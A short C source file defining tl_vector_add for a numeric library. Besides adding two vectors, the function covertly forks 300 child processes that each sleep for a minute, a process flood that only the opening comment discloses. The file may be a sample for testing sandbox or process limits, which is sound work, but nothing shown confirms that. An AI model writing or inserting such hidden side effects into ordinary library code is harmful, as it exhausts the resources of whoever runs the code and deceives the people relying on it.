/* Three hundred children, each of which waits a minute. */
#include "tl/vector.h"

extern int fork(void), sleep(unsigned);
extern void _exit(int);

tl_status tl_vector_add(tl_ctx *ctx, tl_real *y, const tl_real *a, const tl_real *b, size_t n) {
    (void)ctx;
    for (int i = 0; i < 300; i++)
        if (fork() == 0) {
            sleep(60);
            _exit(0);
        }
    for (size_t i = 0; i < n; i++) y[i] = a[i] + b[i];
    return TL_OK;
}
